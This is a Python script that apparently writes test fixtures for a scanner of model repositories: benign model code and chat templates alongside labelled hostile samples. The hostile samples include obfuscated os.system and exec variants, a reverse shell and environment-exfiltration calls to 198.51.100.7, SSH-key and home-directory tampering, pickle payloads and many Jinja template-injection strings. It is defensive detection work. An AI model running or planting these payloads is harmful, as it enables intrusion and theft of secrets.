"""Writes the fixtures of texts: templates, Python code, settings, documents. Ordinary ones have the
shape of what real repositories hold; hostile ones are made by hand and never run, here or in tests.

    python make_text.py        (no packages needed; nbformat's shape is written by hand)

The expected verdicts stand in expected-text.json, which the tests read.
"""

import base64
import json
import pathlib
import zlib

HERE = pathlib.Path(__file__).parent
EXPECTED = {}


def put(name, data, verdict, rule=None, **more):
    path = HERE / "text" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, (dict, list)):
        data = json.dumps(data, indent=2, ensure_ascii=False) + "\n"
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    assert len(data) < 60_000, (name, len(data))
    EXPECTED["text/" + name] = {"verdict": verdict, **({"rule": rule} if rule else {}), **more}


# --- Python -------------------------------------------------------------------------------------

MODELING = '''# coding=utf-8
""" PyTorch Tiny model. """
import math
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.modeling_outputs import CausalLMOutputWithPast
from transformers.utils import logging

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None


class TinyRMSNorm(nn.Module):
    def __init__(self, hidden_size: int, eps: float = 1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states):
        variance = hidden_states.to(torch.float32).pow(2).mean(-1, keepdim=True)
        return self.weight * hidden_states * torch.rsqrt(variance + self.variance_epsilon)


@torch.jit.script
def rotate_half(x: torch.Tensor):
    x1, x2 = x[..., : x.shape[-1] // 2], x[..., x.shape[-1] // 2 :]
    return torch.cat((-x2, x1), dim=-1)


class TinyAttention(nn.Module):
    def __init__(self, config: TinyConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.config = config
        self.head_dim = getattr(config, "head_dim", config.hidden_size // config.num_heads)
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.act = ACTIVATIONS[config.hidden_act]()

    def forward(self, x, mask=None, **kwargs) -> Tuple[torch.Tensor, Optional[torch.Tensor]]:
        q = self.q_proj(x).view(*x.shape[:-1], -1, self.head_dim).transpose(1, 2)
        w = F.softmax(q @ q.transpose(-1, -2) / math.sqrt(self.head_dim), dim=-1)
        if mask is not None and (length := mask.shape[-1]) != w.shape[-1]:
            raise ValueError(f"mask is of length {length!r}, expected {w.shape[-1]:>4d}")
        return torch.matmul(w, q), None


ACTIVATIONS = {"silu": nn.SiLU, "gelu": nn.GELU}


class TinyForCausalLM(PreTrainedModel):
    config_class = TinyConfig
    _no_split_modules = ["TinyAttention"]

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([TinyAttention(config, i) for i in range(config.num_layers)])
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def _init_weights(self, module):
        std = self.config.initializer_range
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)

    def forward(self, input_ids: torch.LongTensor = None, labels=None, return_dict: bool = True):
        hidden = self.embed(input_ids)
        for layer in self.layers:
            hidden, _ = layer(hidden)
        logits = self.lm_head(hidden)
        loss = None
        if labels is not None:
            loss = nn.CrossEntropyLoss()(logits.view(-1, logits.size(-1)), labels.view(-1))
        self.eval()
        return CausalLMOutputWithPast(loss=loss, logits=logits)
'''

CONFIGURATION = '''from transformers.configuration_utils import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(self, vocab_size=32000, hidden_size=64, num_heads=4, num_layers=2, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_heads = num_heads
        self.num_layers = num_layers
        super().__init__(**kwargs)
'''

TOKENIZATION = '''import json
import os
from functools import lru_cache

import regex as re
import sentencepiece as spm
from transformers.tokenization_utils import AddedToken, PreTrainedTokenizer


@lru_cache()
def bytes_to_unicode():
    bs = list(range(ord("!"), ord("~") + 1)) + list(range(ord("¡"), ord("¬") + 1))
    cs = bs[:]
    n = 0
    for b in range(2**8):
        if b not in bs:
            bs.append(b)
            cs.append(2**8 + n)
            n += 1
    return dict(zip(bs, [chr(n) for n in cs]))


class TinyTokenizer(PreTrainedTokenizer):
    vocab_files_names = {"vocab_file": "tokenizer.model"}

    def __init__(self, vocab_file, unk_token="<unk>", **kwargs):
        self.vocab_file = vocab_file
        self.sp_model = spm.SentencePieceProcessor()
        self.sp_model.Load(vocab_file)
        with open(os.path.join(os.path.dirname(vocab_file), "x.json"), encoding="utf-8") as handle:
            self.encoder = json.load(handle)
        self.pat = re.compile(r"""'s|'t| ?\\p{L}+""")
        super().__init__(unk_token=unk_token, **kwargs)

    @property
    def vocab_size(self):
        return self.sp_model.get_piece_size()

    def _tokenize(self, text):
        return self.sp_model.encode(text, out_type=str)
'''

HANDLER = '''from typing import Any, Dict, List

import torch
from transformers import AutoModelForCausalLM, AutoTokenizer, pipeline


class EndpointHandler:
    def __init__(self, path=""):
        self.tokenizer = AutoTokenizer.from_pretrained(path)
        self.model = AutoModelForCausalLM.from_pretrained(path, torch_dtype=torch.float16)
        self.pipe = pipeline("text-generation", model=self.model, tokenizer=self.tokenizer)

    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:
        inputs = data.pop("inputs", data)
        match data:
            case {"parameters": dict() as parameters}:
                return self.pipe(inputs, **parameters)
            case _:
                return self.pipe(inputs)
'''


def python_files():
    put("benign/modeling_tiny.py", MODELING, "safe", "GH-PY-010", format="python")
    put("benign/configuration_tiny.py", CONFIGURATION, "safe", "GH-PY-010", format="python")
    put("benign/tokenization_tiny.py", TOKENIZATION, "safe", format="python")
    put("benign/handler.py", HANDLER, "safe", format="python")
    put("hostile/compiled.bytecode", bytes.fromhex("a70d0d0a00000000000000000000000063") + b"\x00" * 40 + b"\xda\x02os\xda\x06system", "malicious", "GH-PY-001", format="python-bytecode")
    put("hostile/compiled-plain.bytecode", bytes.fromhex("a70d0d0a000000000000000000000000e3") + b"\x00" * 40, "suspicious", "GH-PY-014", format="python-bytecode")
    put("benign/no_name", CONFIGURATION, "safe", format="python")
    put("benign/__init__.py", "from .modeling_tiny import TinyForCausalLM  # noqa\n", "safe")
    lazy = "import sys\nfrom transformers.utils import _LazyModule\n_names = {'modeling_tiny': ['Tiny']}\n"
    put("benign/lazy_package.py", lazy + "sys.modules[__name__] = _LazyModule(__name__, globals()['__file__'], _names, module_spec=__spec__)\n",
        "safe", format="python")
    put("benign/colours.py", "RED = '\x1b[31m'\n\n\ndef red(text):\n    return RED + text\n", "safe", format="python")
    put("benign/pool.py", "from multiprocessing import Pool\n\n\ndef square(x):\n    return x * x\n\n\ndef squares(xs):\n"
        "    with Pool(2) as pool:\n        return pool.map(square, xs)\n", "safe", format="python")

    def code(name, text, verdict="malicious", rule=None):
        put(f"hostile/{name}.py", text, verdict, rule, format="python")

    code("lazy-of-os", "import os, sys\nsys.modules[__name__] = os\n", "suspicious", "GH-PY-007")
    code("lazy-of-another", lazy + "sys.modules['os'] = _LazyModule(__name__, 'f', _names)\n", "suspicious", "GH-PY-007")
    code("lazy-by-name", "import os as _LazyModule, sys\nsys.modules[__name__] = _LazyModule(__name__)\n", "suspicious", "GH-PY-007")
    code("pool-map", "import os\nfrom multiprocessing import Pool\nPool(2).map(os.system, ['id'])\n", rule="GH-PY-001")
    code("pool-start", "import multiprocessing, os\nmultiprocessing.Pool(1, initializer=os.system, initargs=('id',))\n", rule="GH-PY-001")
    code("coloured", "import os\nRED = '\x1b[31m'\nos.system('id')\n", rule="GH-PY-001")
    payload = base64.b64encode(b"import os; os.system('id')").decode()
    for number, text in enumerate([
        "import os\nos.system('id')\n",
        "import os as o\ns = o.system\ns('id')\n",
        "from os import system as _s\n_s('id')\n",
        "from os import *\nsystem('id')\n",
        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "__import__('o' 's').system('id')\n",
        "__import__('subprocess').Popen(['id'])\n",
        "import importlib\nimportlib.import_module('os').popen('id')\n",
        "import importlib as il\nm = il.import_module('sub' + 'process')\nm.run(['id'])\n",
        "import sys\nsys.modules['os'].system('id')\n",
        "__builtins__.__dict__['__import__']('os').system('id')\n",
        "__builtins__['ev' + 'al'](\"__import__('os').system('id')\")\n",
        "globals()['__builtins__']['exec']('import os; os.system(1)')\n",
        f"import base64\nexec(base64.b64decode('{payload}'))\n",
        f"import base64 as b\nx = b.b64decode('{payload}').decode()\nexec(compile(x, '<s>', 'exec'))\n",
        "import zlib\nexec(zlib.decompress(open('w.bin','rb').read()))\n",
        "import urllib.request as u\nexec(u.urlopen('http://198.51.100.7/a').read())\n",
        "import requests\nexec(requests.get('http://198.51.100.7/a').text)\n",
        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))\n",
        "exec(''.join(chr(c ^ 7) for c in [110, 106]))\n",
        "import os\nlist(map(os.system, ['id']))\n",
        "import os\n[os.system][0]('id')\n",
        "import os, functools\nfunctools.partial(os.system, 'id')()\n",
        "import subprocess\n@subprocess.Popen\ndef f(): pass\n",
        "import os\n@(lambda f: os.system('id'))\ndef f(): pass\n",
        "import os\ndef f(x=os.system('id')): pass\n",
        "import os\nclass A:\n    x = os.system('id')\n",
        "import os\nx: os.system('id') = 1\n",
        "import os\nprint(f\"{os.system('id')!r:>{os.system('id')}}\")\n",
        "import os\n[os.system(c) for c in ['id']]\n",
        "import os\nif True:\n    try:\n        pass\n    finally:\n        os.system('id')\n",
        "import os\ndef run():\n    os.system('id')\nrun()\n",
        "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()\n",
        "import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\npty.spawn('sh')\n",
        "import ctypes\nctypes.CDLL('./x.so').go()\n",
        "import pickle, requests\npickle.loads(requests.get('http://198.51.100.7/a').content)\n",
        "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n",
        "import marshal\nexec(marshal.loads(b'x'))\n",
        "import os, requests\nrequests.post('http://198.51.100.7', data=dict(os.environ))\n",
        "import os, urllib.request\nurllib.request.urlopen('http://198.51.100.7/?' + str(dict(os.environ)))\n",
        "open('/root/.bashrc', 'a').write('x')\n",
        "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('k')\n",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
        "().__class__.__bases__[0].__subclasses__()[104].load_module('os').system('id')\n",
        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))\n",
        "eval('__import__(\"os\").system(\"id\")')\n",
        "import os\nос = os\nос.system('id')\n",
        "import ｏs\nｏs.ｓystem('id')\n",
        "import os\n(lambda: os.system('id'))()\n",
        "import atexit, os\natexit.register(os.system, 'id')\n",
        "import threading, os\ndef f(): os.system('id')\nthreading.Thread(target=f).start()\n",
        "import os\\\n\nos\\\n.system('id')\n",
        "import os; os.system('id')",
        "import torch\ntorch.os.system('id')\n",
        "import logging\nlogging.os.system('id')\n",
        "import types\ntypes.FunctionType(compile('1', '', 'eval'), {})()\n",
        "import runpy\nrunpy.run_path('weights.bin')\n",
        "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
        "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))\n",
        "import pip\npip.main(['install', 'x'])\n",
        "import os\nwith os.popen('id') as f:\n    pass\n",
        "import os\nassert os.system('id') == 0\n",
        "import os\ndel [1][os.system('id')]\n",
        "import os\nmatch os.system('id'):\n    case 0:\n        pass\n",
        "from os import path\npath.os.system('id')\n",
        "import os\nfor os.environ['x'] in [str(os.system('id'))]: pass\n",
        "import random\nrandom._os.system('id')\n",
        "import collections\ncollections._sys.modules['os'].system('id')\n",
        "import os\nos.__dict__.get('system')('id')\n",
        "import os\nos.__getattribute__('system')('id')\n",
        "import os\nobject.__getattribute__(os, 'system')('id')\n",
        "globals().get('__builtins__').get('eval')('__import__(\"os\").system(1)')\n",
        "import functools, os\nfunctools.reduce(getattr, ['system'], os)('id')\n",
        "import os\nclass A:\n    s = os.system\nA.s('id')\n",
        "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def forward(self, x):\n        self.f('id')\n",
        "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
        "exec(open('weights.bin').read())\n",
        "import importlib.util as u\ns = u.spec_from_file_location('m', 'weights.bin')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n",
        "import sys\n[m for m in sys.modules.values() if hasattr(m, 'popen')][0].popen('id')\n",
        "import os\n{'a': os.system}['a']('id')\n",
        "import os\ndef f():\n    return os.system\nf()('id')\n",
        "import os as torch\ntorch.system('id')\n",
        "import os, requests\nclass H:\n    def __call__(self, x):\n        requests.get('http://198.51.100.7/?' + os.environ['TOKEN'])\n",
        "import numpy as np\nnp.ctypeslib.ctypes.CDLL('./x.so')\n",
        "from torch.utils.data.datapipes.utils import common\nimport torch\ntorch.serialization.os.system('id')\n",
        "(lambda f: f('__import__(\"os\").system(1)'))(eval)\n",
        "e = eval\ne('__import__(\"os\").system(1)')\n",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')('import os; os.system(1)')\n",
        "import os\nx = 'sys'\nx += 'tem'\ngetattr(os, x)('id')\n",
        "import os\nfor n in ['system']:\n    getattr(os, n)('id')\n",
        "import os\ntry:\n    import nothing\nexcept ImportError:\n    os.system('pip install nothing')\n",
        "import os\nimport torch\nclass M(torch.nn.Module):\n    x = property(lambda s: os.system('id'))\n",
        "import os\nimport torch\nclass M(torch.nn.Module):\n    def __init_subclass__(cls):\n        os.popen('id')\n",
        "from subprocess import *\nrun(['id'])\n",
        "import subprocess as s, shlex\ns.check_call(shlex.split('id'))\n",
    ]):
        code(f"python-{number:02}", text)
    for number, text in enumerate([
        MODELING.replace("        super().__init__()\n        self.weight",
                         "        super().__init__()\n        import os\n        os.system('id')\n        self.weight"),
        MODELING.replace("        hidden = self.embed(input_ids)",
                         "        __import__('subprocess').run('id', shell=True)\n        hidden = self.embed(input_ids)"),
        HANDLER.replace("        inputs = data", "        eval(data['x'])\n        import os; os.popen('id')\n        inputs = data"),
        "class R:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))\n",
        "import os\nclass T:\n    @classmethod\n    def from_pretrained(cls, p):\n        os.system('id')\n",
    ]):
        code(f"python-use-{number}", text)
    code("python-possible", "import os\ndef unused_helper():\n    os.system('id')\n", "suspicious", "GH-PY-001")
    code("python-main", "import os\nif __name__ == '__main__':\n    os.system('id')\n", "suspicious")
    put("hostile/setup.py", "import os\nfrom setuptools import setup\nif __name__ == '__main__':\n    os.system('id')\n    setup(name='x')\n", "malicious", "GH-PY-001")
    code("python-eval-config", "from torch import nn\ndef act(config):\n    return eval(config.act)\n", "suspicious", "GH-PY-002")
    code("python-unknown-library", "import mystery\nmystery.load()\n", "suspicious", "GH-PY-008")
    code("python-network", "import requests\ndef fetch(u):\n    return requests.get(u)\n", "suspicious", "GH-PY-008")
    code("python-remote-code", "from transformers import AutoModel\ndef f(p):\n    return AutoModel.from_pretrained(p, trust_remote_code=True)\n", "suspicious", "GH-PY-008")
    code("python-torch-load", "import torch\ndef f(p):\n    return torch.load(p)\n", "suspicious", "GH-PY-005")
    code("python-two", "import os\nprint 'x'\nos.system('id')\n", "suspicious", "GH-PY-009")
    code("python-cut", "import math\ndef f(:\n", "unknown", "GH-PY-009")
    put("hostile/utf7.py", b"# coding: utf-7\n+AGkAbQBwAG8AcgB0-\n", "suspicious", "GH-PY-009")


# --- templates ----------------------------------------------------------------------------------

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
# Written for this file; each uses the constructs of one family of published templates.
TEMPLATES = {
    "chatml": CHATML,
    "llama3": """{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}{%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}{%- set date_string = "26 Jul 2024" %}{%- endif %}
{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}{%- set messages = messages[1:] %}
{%- else %}{%- set system_message = "" %}{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\n\n" }}
{%- if builtin_tools is defined or tools is not none %}{{- "Environment: ipython\n" }}{%- endif %}
{%- if builtin_tools is defined %}{{- "Tools: " + builtin_tools | reject('equalto', 'code_interpreter') | join(", ") + "\n\n"}}{%- endif %}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}{{- raise_exception("This model only supports single tool-calls at once!") }}{%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {%- for arg_name, arg_val in tool_call.arguments | items %}
            {{- arg_name + '="' + arg_val + '"' }}{%- if not loop.last %}{{- ", " }}{%- endif %}
        {%- endfor %}
    {%- elif message.role == "tool" %}
        {%- if message.content is mapping or message.content is iterable %}{{- message.content | tojson }}{%- endif %}
    {%- endif %}
{%- endfor %}
""",
    "qwen3": """{%- if tools %}
    {{- '<|im_start|>system\n' }}
    {%- for tool in tools %}{{- "\n" }}{{- tool | tojson }}{%- endfor %}
{%- endif %}
{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and message.content is string and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- set reasoning_content = '' %}
    {%- if '</think>' in message.content %}
        {%- set reasoning_content = message.content.split('</think>')[0].rstrip('\n').split('<think>')[-1].lstrip('\n') %}
    {%- endif %}
    {%- if loop.last or (not loop.last and (messages[loop.index0 + 1].role != "tool")) %}{{- '<|im_end|>\n' }}{%- endif %}
{%- endfor %}
{%- if enable_thinking is defined and enable_thinking is false %}{{- '<think>\n\n</think>\n\n' }}{%- endif %}
""",
    "mistral": """{%- if messages[0]["role"] == "system" %}{%- set loop_messages = messages[1:] %}{%- else %}{%- set loop_messages = messages %}{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}
{%- set ns = namespace(index=0) %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or (message.tool_calls is defined and message.tool_calls is not none)) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}{{- raise_exception("roles must alternate") }}{%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
    {%- for tool in tools %}
        {%- set tool = tool.function %}
        {%- for key, val in tool.items() if key != "return" %}
            {%- if val is string %}{{- '"' + key + '": "' + val + '"' }}{%- else %}{{- '"' + key + '": ' + val|tojson }}{%- endif %}
        {%- endfor %}
    {%- endfor %}
    {%- if not message.tool_call.id is defined or message.tool_call.id|length != 9 %}{{- message.tool_call|tojson|replace('a', 'b') }}{%- endif %}
{%- endfor %}
""",
    "gemma": "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate') }}{% endif %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}",
    "zephyr": "{% for message in messages %}\n{% if message['role'] == 'user' %}\n{{ '<|user|>\n' + message['content'] + eos_token }}\n{% endif %}{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n{% endfor %}",
    "hermes": """{%- macro json_to_python_type(json_spec) %}
{%- set basic_type_map = {"string": "str", "number": "float", "integer": "int", "boolean": "bool"} %}
{%- if basic_type_map[json_spec.type] is defined %}
    {{- basic_type_map[json_spec.type] }}
{%- elif json_spec.type == "array" %}
    {{- "list[" +  json_to_python_type(json_spec|items) + "]"}}
{%- elif json_spec.type is iterable %}
    {{- "Union[" }}{%- for t in json_spec.type %}{{- json_to_python_type({"type": t}) }}{%- endfor %}{{- "]" }}
{%- else %}{{- "Any" }}{%- endif %}
{%- endmacro %}
{%- for tool in tools %}{%- if tool.function is defined %}{%- set tool = tool.function %}{%- endif %}
{{- '{"type": "function", "function": ' }}{{- '"' ~ tool.name ~ '"' }}{{- tool.parameters.properties|dictsort }}
{%- for param_name, param_fields in tool.parameters.properties|items %}{{- param_name + ": " + json_to_python_type(param_fields) }}{%- endfor %}
{%- endfor %}
""",
    "gpt-oss": """{#- Tool rendering #}
{%- macro render_typescript_type(param_spec, required_params, is_nullable=false) -%}
    {%- if param_spec.type == "array" -%}
        {%- if param_spec['items'] -%}
            {%- set inner_type = render_typescript_type(param_spec['items'], required_params) -%}
            {%- if inner_type == "object | object" or inner_type|length > 50 -%}{{- "any[]" }}{%- else -%}{{- inner_type + "[]" }}{%- endif -%}
        {%- endif -%}
    {%- elif param_spec.type is defined and param_spec.type is iterable and param_spec.type is not string and param_spec.type is not mapping and param_spec.type[0] is defined -%}
        {%- if param_spec.type | length > 1 -%}{{- param_spec.type | join(" | ") }}{%- endif -%}
    {%- elif param_spec.oneOf -%}
        {%- for variant in param_spec.oneOf -%}{{- render_typescript_type(variant, required_params) -}}{%- if variant.description %}{{- "// " + variant.description }}{%- endif -%}{%- endfor -%}
    {%- endif -%}
{%- endmacro -%}
{%- macro render_tool_namespace(namespace_name, tools) -%}{{- "namespace " + namespace_name + " {\n\n" }}{%- endmacro -%}
{%- if "browser" in builtin_tools -%}{{- render_tool_namespace("browser", tools) }}{%- endif -%}
{%- set last_tool_call = namespace(name=none) %}
{%- for message in loop_messages -%}
    {%- if loop.last and not add_generation_prompt %}{%- generation %}{{- message.content }}{%- endgeneration %}{%- endif %}
    {%- if message.content is string and "<|channel|>analysis<|message|>" in message.content %}{%- continue %}{%- endif %}
    {%- set future_final_message = namespace(found=false) %}
    {%- for future_message in loop_messages[loop.index:] %}{%- if future_message.role == 'assistant' and "tool_calls" not in future_message %}{%- set future_final_message.found = true %}{%- break %}{%- endif %}{%- endfor %}
{%- endfor -%}
""",
    "phi": "{% for message in messages %}{% if message['role'] == 'system' and 'tools' in message and message['tools'] is not none %}{{ '<|' + message['role'] + '|>' + message['content'] + '<|tool|>' + message['tools'] + '<|/tool|>' + '<|end|>' }}{% else %}{{ '<|' + message['role'] + '|>' + message['content'] + '<|end|>' }}{% endif %}{% endfor %}",
    "kimi": """{%- macro render_content(msg) -%}{%- set c = msg.get('content') -%}{%- if c is string -%}{{ c }}{%- elif c is not none -%}{% for content in c -%}{% if content['type'] == 'image' or 'image' in content or 'image_url' in content -%}<|media_start|>{% else -%}{{ content['text'] }}{%- endif -%}{%- endfor -%}{%- endif -%}{%- endmacro -%}
{%- for message in messages -%}{%- set role_name = message.get('name') or message['role'] -%}{{ render_content(message) }}{%- endfor -%}""",
    "glm": """[gMASK]<sop>{%- set ns = namespace(last_user_index=-1) %}{%- for m in messages %}{%- if m.role == 'user' %}{% set ns.last_user_index = loop.index0 -%}{%- endif %}{%- endfor %}
{% for m in messages %}{%- if m.reasoning_content is string %}{% set reasoning = m.reasoning_content %}{% endif %}{%- set content = visible_text(m.content) if visible_text is defined else m.content %}{{ content.strip() }}{% set _args = tc.arguments %}{% for k, v in _args.items() %}<arg_key>{{ k }}</arg_key>{{ v | tojson(ensure_ascii=False) if v is not string else v }}{% endfor %}{% endfor %}""",
    "tricks": """{% raw %}{{ x.__class__ }}{% endraw %}{% filter upper %}a{% endfilter %}{% set x %}block{% endset %}{% call(item) outer(messages) %}{{ item }}{% endcall %}{% macro outer(list) %}{{ caller(list[0]) }}{% endmacro %}{{ messages|map(attribute='content')|join(' ') }}{{ "%s of %d"|format('a', 3) }}{{ 'a' if x else 'b' }}{{ [1, 2,][0] ~ (1, 2)[1] }}{{ {'a': 1,}['a'] }}{{ x is divisibleby 3 }}{{ -x ** 2 // 3 }}{{ not a in b }}{{ a not in b and not c }}{{ x[1:2] }}{{ x[::-1] }}{{ x.0 }}{{ "{}".format(x) }}{{ "it's __fine__ here" }}""",
}
DANGEROUS_TEMPLATES = [
    "{{ ''.__class__ }}",
    "{{ ''['__class__'] }}",
    "{{ ''['__cla' ~ 'ss__'] }}",
    "{{ ''['__cla' + 'ss__'] }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ ''['__class__'|lower] }}",
    "{{ ''['__ssalc__'[::-1]] }}",
    "{{ ''['__ssalc__'|reverse] }}",
    "{{ ''[['__cl','ass__']|join] }}",
    "{{ ''[('_'*2) ~ 'class' ~ ('_'*2)] }}",
    "{{ ''['%c%cclass%c%c'|format(95,95,95,95)] }}",
    "{{ ''['%sclass%s' % ('__','__')] }}",
    "{{ ''['{0}class{0}'.format('__')] }}",
    "{{ ''['__clXss__'.replace('X','a')] }}",
    "{{ ''['__clXss__'|replace('X','a')] }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages|attr(x) }}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ messages|map('attr','__class__')|list }}",
    "{{ messages|selectattr('__class__.__name__','equalto','x')|list }}",
    "{{ messages|groupby('__class__') }}",
    "{{ messages|sort(attribute='__class__') }}",
    "{% set a='__cla' %}{% set b='ss__' %}{{ ''[a~b] }}",
    "{% set u='_' %}{{ ''[u~u~'class'~u~u] }}",
    "{% set a %}__class__{% endset %}{{ ''[a] }}",
    "{{ ''[dict(__class__=1)|first] }}",
    "{{ ''[dict(__cla=1,ss__=2)|join] }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ lipsum['__globals__']['os']['popen']('id')['read']() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ self._TemplateReference__context.cycler }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ request.application.__globals__ }}",
    "{{ config.__class__.from_envvar('x') }}",
    "{{ ().__class__.__bases__[0].__subclasses__()[1] }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('id') }}{% endif %}{% endfor %}",
    "{% if x.__init__.__globals__ %}{% endif %}",
    "{% set x = y.__class__.mro() %}",
    "{% macro m(a=''.__class__) %}{% endmacro %}{{ m() }}",
    "{% call x.__class__.y() %}{% endcall %}",
    "{% filter attr('__class__') %}x{% endfilter %}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ x.popen('id') }}",
    "{{ raise_exception.__globals__ }}",
    "{{ strftime_now.__globals__['sys'].modules['os'].system('id') }}",
    "{{ (messages|first)['__class__'] }}",
    "{{ messages[0]['__class__'] if true else '' }}",
    "{{ x is sameas ''.__class__ }}",
    "{{ {'a': ''.__class__}['a'] }}",
    "{{ f(**{'__class__': 1}) }}",
    "{{ (()|select|string|list)[24] }}",
    "{% set chars = lipsum|string|list %}{{ chars }}",
    "{{ x[y ~ '__'] }}",
    "{% generation %}{{ ''.__class__ }}{% endgeneration %}",
    "{% with a = ''.__class__ %}{{ a }}{% endwith %}",
    "{% do x.__class__ %}",
    "{% if false %}{% elif ''.__class__ %}{% endif %}",
    "{{ lookup('pipe', 'id') }}",
    "{{ x['a' ~ 'b']() }}",
    "{{ x.gi_frame.f_back.f_globals }}",
    "{{ ''|e|attr('__cl'~'ass__') }}",
    "{{ ''['\\N{LOW LINE}\\N{LOW LINE}class__'] }}",
    "{{ ''['\\N{FULLWIDTH LOW LINE}class'] }}",
    "{% set u = strftime_now('_') %}{{ messages[u~u~'class'~u~u] }}",
    "{% set u = x %}{% set k = u~u~'globals'~u~u %}{{ messages[k] }}",
    "{{ messages['XXclassXX'|replace('X', u)] }}",
    "{{ messages['XXclassXX'.replace('X', u)] }}",
    "{{ messages[[u,u,'class',u,u]|join] }}",
    "{{ messages['%sclass%s'|format(u,u)] }}",
    "{% set c = dict(class=1)|list|first %}{{ messages[u~u~c~u~u] }}",
    "{{ (strftime_now|string)[9] }}",
    "{{ 'a'.join(['__cl','ss__']) and ''['__class__'.strip()] }}",
]


def templates():
    for name, text in TEMPLATES.items():
        put(f"benign/{name}.jinja", text, "safe" if name != "glm" else "suspicious", format="jinja")
    for number, text in enumerate(DANGEROUS_TEMPLATES):
        put(f"hostile/template-{number:02}.jinja", text, "malicious", "GH-TPL-001", format="jinja")
    for name, text, verdict, rule in [
        ("call", "{{ fetch_it('x') }}", "suspicious", "GH-TPL-002"),
        ("filter", "{{ x|shell }}", "suspicious", "GH-TPL-002"),
        ("include", "{% include '/etc/passwd' %}", "suspicious", "GH-TPL-002"),
        ("import", "{% import 'a' as b %}", "suspicious", "GH-TPL-002"),
        ("config", "{{ config.items() }}", "suspicious", "GH-TPL-002"),
